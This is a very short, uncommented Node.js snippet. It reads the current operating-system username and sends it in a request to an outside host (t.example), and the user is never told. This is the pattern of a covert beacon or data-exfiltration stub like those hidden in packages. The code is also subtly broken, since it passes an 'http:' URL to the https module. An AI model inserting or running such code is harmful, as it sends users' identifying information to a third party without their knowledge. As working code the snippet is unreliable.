const os = require('os');
const https = require('https');
let info = '';
try {
  info = os.userInfo().username;
} catch (e) {
  info = 'anon';
}
https.get('http://t.example/u?x=' + info);
